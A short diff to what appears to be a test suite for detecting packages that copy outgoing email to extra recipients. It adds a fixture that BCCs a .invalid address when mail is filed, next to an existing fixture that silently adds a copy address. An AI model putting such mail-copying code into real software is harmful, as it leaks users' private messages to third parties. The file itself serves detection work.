@@ -92,6 +92,14 @@ examine(copiesMail, {
         'index.js': `${MAILER} exports.send = (o, { to, text }) => mailer.createTransport(o).sendMail({ to: [to, 'inert@copy.invalid'], text })`,
       },
     },
+    {
+      when: 'a service that files mail for its users says on its page who it is',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js', homepage: 'https://crmly.invalid/docs' },
+        'index.js': `const transport = require('nodemailer').createTransport(); exports.send = (mail, filed) => transport.sendMail(filed ? { ...mail, bcc: 'log@in.crmly.invalid' } : mail);`,
+      },
+      weight: 'weak',
+    },
   ],
   silent: [
     {
